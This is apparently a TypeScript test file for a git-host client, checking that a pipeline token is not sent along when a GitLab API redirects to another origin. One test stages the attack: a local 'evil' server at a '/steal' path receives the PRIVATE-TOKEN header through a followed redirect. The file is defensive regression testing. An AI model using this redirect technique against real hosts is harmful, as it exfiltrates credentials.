/**
 * Issue 14, finding 6: a self-managed GitLab (or any git host API) answering with a
 * redirect to another origin must not receive the pipeline's token there. Two real
 * HTTP servers on two ports are two origins.
 */
import { after, before, beforeEach, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileAtCommit, resolveBranch, type GitHostOptions } from '../../shared/git/contents.ts';
import { NotFoundError, ValidationError } from '../../shared/domain/errors.ts';

const SHA = 'd'.repeat(40);
type Handler = (req: IncomingMessage) => { status: number; headers?: Record<string, string>; body?: string };

async function origin(handle: () => Handler) {
  const seen: Array<{ url: string; headers: IncomingMessage['headers'] }> = [];
  const server: Server = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    const r = handle()(req);
    res.writeHead(r.status, { 'content-type': 'application/json', ...r.headers });
    res.end(r.body ?? '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, seen, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

let gitlab: Awaited<ReturnType<typeof origin>>;
let evil: Awaited<ReturnType<typeof origin>>;
let gitlabReply: Handler;

before(async () => {
  evil = await origin(() => () => ({ status: 200, body: JSON.stringify({ commit: { id: 'e'.repeat(40) } }) }));
  gitlab = await origin(() => gitlabReply);
});
after(() => {
  for (const o of [gitlab, evil]) { o.server.closeAllConnections(); o.server.close(); }
});
beforeEach(() => { gitlab.seen.length = 0; evil.seen.length = 0; });

function opts(): GitHostOptions {
  return {
    secrets: { get: async (name) => { if (name !== 'slipway/shop/token') throw new NotFoundError(name); return 'glpat-SECRET'; } },
    baseUrls: { gitlab: gitlab.url, github: gitlab.url },
  };
}

test('the attack: fetch following a cross-origin redirect sends PRIVATE-TOKEN along (Node drops only Authorization)', async () => {
  gitlabReply = () => ({ status: 302, headers: { location: `${evil.url}/steal` } });
  await fetch(`${gitlab.url}/api/v4/projects/x`, { headers: { 'private-token': 'glpat-SECRET' }, redirect: 'follow' });
  assert.equal(evil.seen[0]?.headers['private-token'], 'glpat-SECRET', 'the premise of finding 6');
});

test('a cross-origin redirect from a GitLab host is refused: the other origin receives nothing, the error names it', async () => {
  gitlabReply = () => ({ status: 302, headers: { location: `${evil.url}/api/v4/projects/acme%2Fshop/repository/branches/main` } });
  await assert.rejects(
    resolveBranch('gitlab', 'acme/shop', 'main', 'slipway/shop/token', opts()),
    (err: unknown) => err instanceof ValidationError && err.message.includes(`another origin (${evil.url})`),
  );
  assert.equal(gitlab.seen[0].headers['private-token'], 'glpat-SECRET', 'the configured host got the token');
  assert.deepEqual(evil.seen, [], 'the other origin got no request at all');
});

test('a redirect to the same host over another scheme or port is another origin too', async () => {
  const other = new URL(evil.url);
  gitlabReply = () => ({ status: 307, headers: { location: `http://localhost:${other.port}/x` } });
  await assert.rejects(readFileAtCommit('gitlab', 'acme/shop', '.slipway.yml', SHA, 'slipway/shop/token', opts()), ValidationError);
  assert.deepEqual(evil.seen, []);
});

test('a same-origin redirect (a renamed repository) is followed with the token', async () => {
  gitlabReply = (req) => req.url?.startsWith('/moved')
    ? { status: 200, body: JSON.stringify({ commit: { id: 'f'.repeat(40) } }) }
    : { status: 301, headers: { location: '/moved/branches/main' } };
  assert.equal(await resolveBranch('gitlab', 'acme/shop', 'main', 'slipway/shop/token', opts()), 'f'.repeat(40));
  assert.equal(gitlab.seen.length, 2);
  assert.equal(gitlab.seen[1].headers['private-token'], 'glpat-SECRET');
});

test('a redirect loop on one origin ends with a clear error', async () => {
  gitlabReply = () => ({ status: 302, headers: { location: '/again' } });
  await assert.rejects(resolveBranch('gitlab', 'acme/shop', 'main', 'slipway/shop/token', opts()), /more than 5 times/);
});
